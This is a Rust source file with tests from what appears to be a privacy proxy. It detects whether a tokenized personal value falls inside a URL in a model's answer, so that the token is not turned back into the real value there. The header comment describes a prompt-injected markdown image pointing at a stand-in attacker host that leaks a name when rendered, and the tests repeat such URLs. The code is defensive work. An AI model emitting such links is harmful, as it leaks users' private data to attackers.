//! Whether a place in an answer's text is inside a URL. A token restored inside a URL sends
//! the real value wherever the URL points when the client renders it: a prompt-injected
//! `![x](https://attacker.example/?q=Person_7QF2)` makes a markdown client fetch the image,
//! and the attacker's server reads the name. So by default a token inside a URL stays a
//! token (`TokenMap::restoring_in_urls` turns restoring there back on, per route).
//!
//! A URL here is a run of text between delimiters (whitespace, quotes, angle, round, square
//! and curly brackets, backticks, pipes) that holds `://`, or starts with `www.` or `//`
//! (protocol-relative). That covers bare links, markdown links and images (`](` then the
//! URL), HTML `src`/`href` (quoted or not), and query strings. The state is fed the model's
//! own text byte by byte, so a stream carries it from one piece to the next and a token split
//! across events is judged by all the text before it.

/// The URL state at a point of a text.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct UrlContext {
    /// Bytes of the current run so far (counted up to 4: only its start is looked at).
    run: u8,
    /// The run's first bytes, lowercased.
    head: [u8; 4],
    /// The last two bytes of the run.
    prev: [u8; 2],
    in_url: bool,
}

impl UrlContext {
    /// Whether the text fed so far ends inside a URL.
    pub fn in_url(&self) -> bool {
        self.in_url
    }

    /// Advances over `bytes`.
    pub fn feed(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.push(b);
        }
    }

    fn push(&mut self, b: u8) {
        if is_delimiter(b) {
            *self = UrlContext::default();
            return;
        }
        if (self.run as usize) < self.head.len() {
            self.head[self.run as usize] = b.to_ascii_lowercase();
            self.run += 1;
            if self.run == 2 && self.head[..2] == *b"//" || self.run == 4 && self.head == *b"www." {
                self.in_url = true;
            }
        }
        if self.prev == *b":/" && b == b'/' {
            self.in_url = true;
        }
        self.prev = [self.prev[1], b];
    }
}

fn is_delimiter(b: u8) -> bool {
    b.is_ascii_whitespace()
        || matches!(
            b,
            b'"' | b'\'' | b'<' | b'>' | b'(' | b')' | b'[' | b']' | b'{' | b'}' | b'`' | b'|'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Whether the text just before `TOKEN` in `text` is inside a URL, fed in one piece and
    /// cut at every position.
    fn before_token_in_url(text: &str) -> bool {
        let at = text.find("TOKEN").expect("the text holds TOKEN");
        let mut whole = UrlContext::default();
        whole.feed(&text.as_bytes()[..at]);
        for cut in 0..=at {
            let mut pieces = UrlContext::default();
            pieces.feed(&text.as_bytes()[..cut]);
            pieces.feed(&text.as_bytes()[cut..at]);
            assert_eq!(pieces, whole, "cut at {cut} of {text:?}");
        }
        whole.in_url()
    }

    #[test]
    fn links_images_attributes_and_query_strings_are_urls() {
        for text in [
            "![x](https://attacker.example/?q=TOKEN)",
            "[click](http://a.example/p/TOKEN/x)",
            "see https://a.example/search?name=TOKEN&x=1",
            "<img src=\"https://a.example/i.png?u=TOKEN\">",
            "<a href='//a.example/TOKEN'>",
            "<img src=https://a.example/TOKEN>",
            "www.a.example/?q=TOKEN",
            "HTTPS://A.EXAMPLE/?Q=TOKEN",
            "{\"url\": \"https://a.example/?q=TOKEN\"}",
            "ftp://files.example/TOKEN",
            "https://TOKEN.attacker.example/",
        ] {
            assert!(before_token_in_url(text), "{text}");
        }
    }

    #[test]
    fn prose_and_addresses_are_not_urls() {
        for text in [
            "Hello TOKEN, welcome",
            "mail TOKEN today",
            "visit https://a.example/docs then ask TOKEN",
            "(TOKEN)",
            "mailto:TOKEN",
            "ratio 3:/TOKEN",
            "path/to/TOKEN",
            "\"TOKEN\"",
        ] {
            assert!(!before_token_in_url(text), "{text}");
        }
    }
}
